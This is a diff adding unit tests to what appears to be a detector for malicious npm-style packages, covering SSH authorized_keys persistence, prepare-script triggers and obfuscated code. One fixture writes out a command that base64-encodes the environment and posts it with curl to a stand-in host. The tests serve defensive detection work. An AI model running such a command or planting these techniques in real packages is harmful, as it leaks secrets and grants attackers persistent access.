@@ -27,6 +27,24 @@ describe('what is enough by itself', () => {
     expect(rows(loaded(script(kind)))).toEqual([]);
   });
 
+  it("C21 asks about a key of one's own among those that may log in", () => {
+    const key = script(trait('persistence', { what: '~/.ssh/authorized_keys' }));
+    expect(rows(loaded(able(key, 'file-write')))).toEqual(['C21 high']);
+    expect(rows(loaded(able(script('persistence'), 'file-write')))).toEqual([]);
+  });
+
+  it('C14 asks about a command that takes the environment along', () => {
+    const dump = (excerpt: string) => able(script(trait('environment-dump', { excerpt })), 'child-process');
+    expect(rows(loaded(dump('curl -d "$(env | base64)" https://a.example')))).toEqual(['C14 high']);
+    expect(rows(loaded(dump('const shown = "$(env | grep PATH)"')))).toEqual([]);
+  });
+
+  it('C7 asks about what a prepare script starts', () => {
+    const clone = { files: [{ path: 'a.js', depth: 0, by: 'prepare' }] };
+    expect(rows({ files: { 'a.js': script('hex-names') }, clone })).toEqual(['C7 high']);
+    expect(rows({ files: { 'a.js': script('hex-names') } })).toEqual([]);
+  });
+
   it('C16 asks about brackets that an import runs', () => {
     expect(rows(loaded(script('jsfuck')))).toEqual(['C16 high']);
     expect(rows(lying(script('jsfuck')))).toEqual([]);
